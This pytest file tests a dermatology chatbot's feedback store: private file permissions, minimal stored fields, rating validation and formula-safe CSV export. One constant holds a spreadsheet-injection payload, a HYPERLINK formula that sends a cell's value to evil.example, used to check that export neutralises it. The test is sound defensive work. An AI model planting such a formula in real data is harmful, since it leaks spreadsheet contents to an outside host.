"""Answer feedback: a private SQLite store holding only what a researcher needs, and a formula-safe export."""

from __future__ import annotations

import csv
import json
import sqlite3
import stat
from pathlib import Path

import pytest

from dermchat.cli import main as cli
from dermchat.feedback.export import formula_safe
from dermchat.feedback.record import FeedbackError, feedback_fields, rating_from_like
from dermchat.feedback.store import COLUMNS, FeedbackStore
from dermchat.results import ProviderRef, Triage, TurnResult

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def result() -> TurnResult:
    return TurnResult(
        turn_id="t-123",
        question="my private question",
        image_sha256="ab" * 32,
        triage=Triage(tier="urgent", reason="melanoma in the set"),
        providers={
            "diagnoser": ProviderRef(id="ham-cnn", version="3"),
            "references": [ProviderRef(id="ham-exemplars"), ProviderRef(id="sd-diffusion")],
        },
    )


def test_like_values_map_to_ratings() -> None:
    assert [rating_from_like(v) for v in (True, False, "Flag as wrong or unsafe", None)] == ["up", "down", "flag", None]
    with pytest.raises(FeedbackError, match="unknown feedback value"):
        rating_from_like("Love it")


def test_the_store_is_private_and_keeps_only_result_providers_tier_rating_comment(tmp_path: Path) -> None:
    db = tmp_path / "new" / "feedback.sqlite"
    store = FeedbackStore(db)
    assert stat.S_IMODE(db.stat().st_mode) == 0o600 and stat.S_IMODE(db.parent.stat().st_mode) == 0o700
    row = store.add(feedback_fields(result()), "down")
    assert store.update(row, rating="flag") and store.update(row, comment="  It called my melanoma harmless ")
    [saved] = store.rows()
    assert saved["result_id"] == "t-123" and saved["tier"] == "urgent" and saved["rating"] == "flag"
    assert saved["providers"] == {"diagnoser": "ham-cnn", "references": ["ham-exemplars", "sd-diffusion"]}
    assert saved["comment"] == "It called my melanoma harmless"
    columns = [c[1] for c in sqlite3.connect(db).execute("PRAGMA table_info(feedback)")]
    assert columns == COLUMNS  # no IP, no photo, no question text
    assert b"my private question" not in db.read_bytes() and b"abab" not in db.read_bytes()
    store.delete(row)
    assert store.rows() == [] and not store.update(row, rating="up")
    with pytest.raises(FeedbackError):
        store.add(feedback_fields(result()), "meh")
    with pytest.raises(FeedbackError, match="under 2000"):
        store.add(feedback_fields(result()), "up", "x" * 2001)


def test_cli_export_is_formula_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "feedback.sqlite"
    store = FeedbackStore(db)
    store.add(feedback_fields(result()), "flag", HOSTILE)
    store.add(feedback_fields(result()), "up", "-1 is fine; +2 too; @me")
    out = tmp_path / "export"
    assert cli(["feedback", "export", "--db", str(db), "--out", str(out)]) == 0
    with (out / "feedback.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["comment"] for r in rows] == ["'" + HOSTILE, "'-1 is fine; +2 too; @me"]
    assert rows[0]["rating"] == "flag" and json.loads(rows[0]["providers"])["diagnoser"] == "ham-cnn"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    lines = [json.loads(line) for line in (out / "feedback.jsonl").read_text().splitlines()]
    assert lines[0]["comment"] == HOSTILE  # JSON keeps the exact text; no spreadsheet evaluates it
    assert cli(["feedback", "export", "--db", str(tmp_path / "none.sqlite"), "--out", str(out)]) == 2
    assert "no such feedback database" in capsys.readouterr().err


def test_formula_safe_leaves_numbers_and_plain_text() -> None:
    assert [formula_safe(v) for v in (-3, 2.5, "plain", "", "a=b")] == [-3, 2.5, "plain", "", "a=b"]
    assert formula_safe("\t=1") == "'\t=1"
